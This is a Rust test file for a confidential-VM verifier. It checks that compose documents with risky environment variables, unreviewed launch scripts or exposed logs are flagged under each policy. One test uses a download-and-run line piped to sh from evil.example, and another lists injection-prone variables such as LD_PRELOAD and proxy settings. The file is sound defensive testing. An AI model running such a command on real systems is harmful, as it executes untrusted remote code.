//! What surrounds the containers: T39 to T41 of the threat list. Each begins with a CVM that runs exactly the expected
//! compose document, so that nothing but `launch-inputs` has anything to say.

use cvm_verify_core::policy::{LaunchInputsPolicy, LockedCompose};
use cvm_verify_core::reference::ReferenceValues;
use cvm_verify_core::report::{CheckId, Status, Verdict};
use serde_json::{Value, json};
use simulator::app_compose::{DOCKER_COMPOSE, app_compose};
use simulator::{Cvm, World};

use crate::judge::{Judged, Trial};

/// A healthy compose document with these fields instead, `null` for none.
fn document(fields: &Value) -> String {
    let mut document: Value = serde_json::from_str(&app_compose(DOCKER_COMPOSE)).unwrap();
    document["pre_launch_script"] = Value::Null;
    let object = document.as_object_mut().unwrap();
    for (name, value) in fields.as_object().unwrap() {
        object.insert(name.clone(), value.clone());
    }
    object.retain(|_, value| !value.is_null());
    document.to_string()
}

/// A CVM of such a document, and a user who expects its hash.
fn running(fields: Value) -> Trial {
    let mut cvm = Cvm::healthy(&World::default());
    cvm.app_compose = document(&fields);
    Trial::of(cvm)
}

/// Warns for a reason, and the verdict stays; is raised to a failure; is waived.
fn is_a_concern(fields: Value, reason: &str) -> Judged {
    let judged = concern(&fields, reason, Verdict::Pass);
    judged.passes();
    judged
}

/// As [`is_a_concern`], where `image-pins` finds that it decides code.
fn decides_code(fields: Value, reason: &str) -> Judged {
    let judged = concern(&fields, reason, Verdict::Inconclusive);
    judged.says(CheckId::ImagePins, Status::Warn, "unmeasured-input");
    judged
}

fn concern(fields: &Value, reason: &str, verdict: Verdict) -> Judged {
    let strict = |launch_inputs| {
        running(fields.clone())
            .with(|trial| trial.policy.launch_inputs = launch_inputs)
            .judge()
    };
    strict(LaunchInputsPolicy::Required).fails(CheckId::LaunchInputs, reason);
    let waived = strict(LaunchInputsPolicy::Unchecked);
    waived
        .says(CheckId::LaunchInputs, Status::Skip, "unchecked")
        .concludes(verdict);
    assert_eq!(waived.0.waived, [CheckId::LaunchInputs]);
    let judged = strict(LaunchInputsPolicy::Warn);
    judged
        .says(CheckId::LaunchInputs, Status::Warn, reason)
        .concludes(verdict);
    judged
}

/// Passes even where concerns fail.
fn is_no_concern(fields: Value) -> Judged {
    let judged = running(fields)
        .with(|trial| trial.policy.launch_inputs = LaunchInputsPolicy::Required)
        .judge();
    judged.passes().proves(CheckId::LaunchInputs);
    judged
}

/// What the lock says of a document.
fn locked(fields: &Value) -> LockedCompose {
    let mut compose_settings: std::collections::BTreeMap<String, Value> =
        serde_json::from_str(&document(fields)).unwrap();
    compose_settings.remove("docker_compose_file");
    for name in ["pre_launch_script", "init_script"] {
        if let Some(Value::String(script)) = compose_settings.get(name) {
            use sha2::{Digest as _, Sha256};
            let hash = format!("sha256:{}", hex::encode(Sha256::digest(script)));
            compose_settings.insert(name.to_owned(), hash.into());
        }
    }
    LockedCompose {
        compose_settings,
        images: std::collections::BTreeMap::new(),
        places: Vec::new(),
        lock: "cvm.lock".into(),
    }
}

#[test]
fn the_healthy_baseline_passes() {
    is_no_concern(json!({}));
}

#[test]
fn t39_each_risky_variable_is_a_concern() {
    for name in [
        "LD_PRELOAD",
        "HTTPS_PROXY",
        "all_proxy",
        "DOCKER_HOST",
        "COMPOSE_FILE",
        "DSTACK_ROOT_PASSWORD",
        "DSTACK_ROOT_PUBLIC_KEY",
        "DSTACK_AUTHORIZED_KEYS",
        "OPENSSL_CONF",
        "HOME",
    ] {
        let judged = decides_code(json!({"allowed_envs": ["API_KEY", name]}), "risky-variables");
        let detail = judged.detail(CheckId::LaunchInputs);
        assert!(detail.contains(name) && !detail.contains("API_KEY"), "{detail}");
    }
}

#[test]
fn t39_other_variables_and_none_are_no_concern() {
    is_no_concern(json!({"allowed_envs": ["API_KEY", "DATABASE_URL"]}));
    // What the guest does not read.
    is_no_concern(
        json!({"allowed_envs": ["OPENAI_PROXY", "NODE_OPTIONS", "PYTHONPATH", "ENV", "UV_THREADPOOL_SIZE"]}),
    );
    is_no_concern(json!({"allowed_envs": []}));
    is_no_concern(json!({"allowed_envs": null}));
}

/// The script of the runner `bash` may hand any variable to any program.
#[test]
fn t39_the_runner_bash_executes_a_script_that_is_in_no_table() {
    let fields =
        |names: Value| json!({"runner": "bash", "bash_script": "node app.js", "allowed_envs": names});
    for name in ["NODE_OPTIONS", "PYTHONPATH", "GUNICORN_CMD_ARGS", "LD_PRELOAD"] {
        let judged = concern(
            &fields(json!(["API_KEY", name])),
            "risky-variables",
            Verdict::Inconclusive,
        );
        let detail = judged.detail(CheckId::LaunchInputs);
        assert!(detail.contains(name) && !detail.contains("API_KEY"), "{detail}");
        judged.says(CheckId::ImagePins, Status::Warn, "unpinned-image");
    }
    running(fields(json!(["API_KEY"])))
        .judge()
        .proves(CheckId::LaunchInputs);
}

#[test]
fn t39_a_launch_token_is_mentioned_and_excuses_nothing() {
    let risky = |token: Value| decides_code(token, "risky-variables");
    let bare = risky(json!({"allowed_envs": ["LD_PRELOAD"]}));
    assert!(bare.detail(CheckId::LaunchInputs).contains("no launch token"));
    for token in [
        json!({"allowed_envs": ["LD_PRELOAD"], "launch_token_hash": "aa"}),
        json!({"allowed_envs": ["LD_PRELOAD"], "requirements": {"launch_token_hash": "aa"}}),
    ] {
        let guarded = risky(token);
        assert!(
            guarded
                .detail(CheckId::LaunchInputs)
                .contains("a launch token guards")
        );
    }
}

#[test]
fn t39_many_names_are_cut_and_a_list_of_another_type_is_a_concern() {
    let names: Vec<String> = (0..500).map(|number| format!("BASH_{number}")).collect();
    let judged = decides_code(json!({ "allowed_envs": names }), "risky-variables");
    assert!(judged.detail(CheckId::LaunchInputs).contains("and 492 more"));
    decides_code(json!({"allowed_envs": "LD_PRELOAD"}), "risky-variables");
}

#[test]
fn t40_a_changed_script_is_a_concern_with_its_hash() {
    let judged = is_a_concern(
        json!({"pre_launch_script": "curl https://evil.example | sh"}),
        "unknown-pre-launch-script",
    );
    let detail = judged.detail(CheckId::LaunchInputs);
    let hash = {
        use sha2::{Digest as _, Sha256};
        hex::encode(Sha256::digest("curl https://evil.example | sh"))
    };
    assert!(detail.contains(&hash), "{detail}");
    is_a_concern(json!({"init_script": "true"}), "init-script");
    is_a_concern(json!({"init_script": ["true", "false"]}), "init-script");
    is_no_concern(json!({"pre_launch_script": "", "init_script": ["", ""]}));
}

#[test]
fn t40_a_reviewed_script_is_no_concern_and_another_one_is() {
    let mine = json!({"pre_launch_script": "echo mine"});
    let reviewed = running(mine.clone())
        .with(|trial| {
            trial.policy.launch_inputs = LaunchInputsPolicy::Required;
            trial.policy.locked_compose = Some(locked(&mine));
        })
        .judge();
    reviewed.passes().proves(CheckId::LaunchInputs);
    assert!(
        reviewed
            .detail(CheckId::LaunchInputs)
            .starts_with("As reviewed in cvm.lock")
    );
    running(json!({"pre_launch_script": "echo mine "}))
        .with(|trial| {
            trial.policy.launch_inputs = LaunchInputsPolicy::Required;
            trial.policy.locked_compose = Some(locked(&mine));
        })
        .judge()
        .fails(CheckId::LaunchInputs, "unknown-pre-launch-script");
}

/// A script that a row of the user's own file knows is accepted in writing; where the lock holds its hash, the row is not asked.
#[test]
fn t40_a_script_of_the_users_own_file_is_accepted_in_writing_unless_the_lock_holds_it() {
    use sha2::{Digest as _, Sha256};
    let mine = json!({"pre_launch_script": "echo mine"});
    let rows = format!(
        "updated = \"2026-11-25\"\n[[script]]\nsha256 = \"{}\"\nversion = \"mine\"\ntext = \"observed\"\nsource = \"test\"\ndate = \"2026-11-25\"\n",
        hex::encode(Sha256::digest("echo mine"))
    );
    let reference = ReferenceValues::built_in()
        .with_file("rows.toml", rows.as_bytes())
        .unwrap();
    for is_locked in [false, true] {
        let judged = running(mine.clone())
            .with(|trial| {
                trial.policy.launch_inputs = LaunchInputsPolicy::Required;
                trial.policy.reference = reference.clone().into();
                trial.policy.locked_compose = is_locked.then(|| locked(&mine));
            })
            .judge();
        judged.passes().proves(CheckId::LaunchInputs);
        let accepted = judged.0.accepted.iter();
        let of_script = accepted.filter(|one| one.check == CheckId::LaunchInputs).count();
        assert_eq!(of_script, usize::from(!is_locked), "{judged}");
    }
}

#[test]
fn t41_each_exposure_is_a_concern() {
    for (fields, reason) in [
        (json!({"public_logs": true}), "exposed"),
        (json!({"public_sysinfo": true}), "exposed"),
        (json!({"public_logs": "yes"}), "exposed"),
        (json!({"secure_time": false}), "no-secure-time"),
        (json!({"no_instance_id": true}), "no-instance-id"),
    ] {
        is_a_concern(fields, reason);
    }
    // What is left out has the guest's default, which is the safe one.
    is_no_concern(json!({
        "public_logs": null, "public_sysinfo": null, "secure_time": null, "no_instance_id": null
    }));
}

#[test]
fn t41_the_gravest_concern_gives_the_reason_and_all_are_told() {
    let judged = decides_code(
        json!({
            "allowed_envs": ["LD_PRELOAD"], "pre_launch_script": "x", "init_script": "y",
            "public_logs": true, "secure_time": false, "no_instance_id": true
        }),
        "risky-variables",
    );
    let detail = judged.detail(CheckId::LaunchInputs);
    for part in [
        "LD_PRELOAD",
        "pre-launch script",
        "init script",
        "public_logs",
        "secure_time",
        "no_instance_id",
    ] {
        assert!(detail.contains(part), "{part} is not in {detail}");
    }
}

#[test]
fn a_missing_document_is_left_open_only_where_it_was_asked_for() {
    let hidden = |launch_inputs| {
        running(json!({}))
            .with(|trial| {
                trial.info = false;
                trial.policy.launch_inputs = launch_inputs;
                trial.policy.image_pins = cvm_verify_core::policy::ImagePinsPolicy::Unchecked;
            })
            .judge()
    };
    hidden(LaunchInputsPolicy::Required).leaves_open(CheckId::LaunchInputs, "no-compose-document");
    hidden(LaunchInputsPolicy::Warn)
        .says(CheckId::LaunchInputs, Status::Error, "no-compose-document")
        .concludes(Verdict::Pass);
}
